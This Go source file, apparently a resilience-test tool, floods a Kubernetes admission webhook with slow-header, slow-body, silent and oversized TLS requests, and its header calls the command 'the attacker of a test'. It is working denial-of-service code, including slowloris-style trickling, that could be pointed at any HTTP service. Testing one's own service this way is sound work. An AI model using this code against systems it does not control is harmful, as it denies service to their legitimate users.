// Command flood is the attacker of a test: from a pod in the cluster it does to the
// webhook whatever a stranger who reaches its port can do to keep others from it. It
// says once a second, as JSON, what it did so far.
//
//	flood --address HOST:PORT --namespace NAMESPACE --for 60s
package main

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync/atomic"
	"time"
)

// done is what the attacker did so far.
type done struct {
	// Connections that were opened, with TLS.
	Connections int64 `json:"connections"`
	// Bytes that the webhook took.
	Bytes int64 `json:"bytes"`
	// Answers that came.
	Answers int64 `json:"answers"`
}

type flood struct {
	address, namespace          string
	connections, bytes, answers atomic.Int64
}

func main() {
	var f flood
	flag.StringVar(&f.address, "address", "argoseal-webhook.argoseal-system.svc:443", "HOST:PORT of the webhook")
	flag.StringVar(&f.namespace, "namespace", "default", "the namespace that its requests say they are about")
	length := flag.Duration("for", time.Minute, "how long it goes on")
	flag.Parse()
	ctx, cancel := context.WithTimeout(context.Background(), *length)
	defer cancel()
	for range 100 {
		go f.again(ctx, f.silent)
		go f.again(ctx, f.headers)
		go f.again(ctx, f.body)
	}
	for range 8 {
		go f.again(ctx, f.large)
	}
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
			// What is three numbers can be printed.
			_ = json.NewEncoder(os.Stdout).Encode(done{f.connections.Load(), f.bytes.Load(), f.answers.Load()})
		}
	}
}

// again connects and attacks until the time is over.
func (f *flood) again(ctx context.Context, attack func(context.Context, io.ReadWriter)) {
	for ctx.Err() == nil {
		dialer := &tls.Dialer{
			NetDialer: &net.Dialer{Timeout: 5 * time.Second},
			Config:    &tls.Config{InsecureSkipVerify: true}, // an attacker does not care whom it attacks
		}
		c, err := dialer.DialContext(ctx, "tcp", f.address)
		if err != nil {
			pause(ctx, 100*time.Millisecond)
			continue
		}
		f.connections.Add(1)
		attack(ctx, counted{c, f})
		_ = c.Close()
	}
}

// counted counts what the webhook takes.
type counted struct {
	net.Conn
	f *flood
}

func (c counted) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	c.f.bytes.Add(int64(n))
	return n, err
}

// silent says nothing.
func (f *flood) silent(ctx context.Context, c io.ReadWriter) { f.wait(ctx, c) }

// headers never ends its header.
func (f *flood) headers(ctx context.Context, c io.ReadWriter) {
	f.trickle(ctx, c, "POST /mutate-pod HTTP/1.1\r\nHost: webhook\r\nX-Long: ")
}

// body never ends a request that says to be large and whose namespace is somebody else's.
func (f *flood) body(ctx context.Context, c io.ReadWriter) {
	f.trickle(ctx, c, f.header(6<<20)+f.begins()+strings.Repeat("x", 64<<10))
}

// large sends as much as it can, and what has to be decoded.
func (f *flood) large(ctx context.Context, c io.ReadWriter) {
	begins, ends := f.begins(), `"}}}`
	const size = 1 << 20
	body := begins + strings.Repeat("x", size-len(begins)-len(ends)) + ends
	if _, err := io.WriteString(c, f.header(size)+body); err == nil {
		f.wait(ctx, c)
	}
}

func (f *flood) header(size int) string {
	return fmt.Sprintf("POST /mutate-pod?timeout=10s HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", size)
}

// begins is how a request about the namespace begins.
func (f *flood) begins() string {
	return `{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"u","namespace":"` + f.namespace +
		`","operation":"CREATE","object":{"apiVersion":"v1","kind":"Pod","x":"`
}

// trickle sends a text, and then a byte ten times a second.
func (f *flood) trickle(ctx context.Context, c io.Writer, text string) {
	_, err := io.WriteString(c, text)
	for err == nil && ctx.Err() == nil {
		pause(ctx, 100*time.Millisecond)
		_, err = io.WriteString(c, "x")
	}
}

// wait waits until the webhook answers or hangs up.
func (f *flood) wait(ctx context.Context, c io.Reader) {
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		if n, _ := c.Read(make([]byte, 64<<10)); n > 0 {
			f.answers.Add(1)
		}
	}()
	select {
	case <-ended:
	case <-ctx.Done():
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
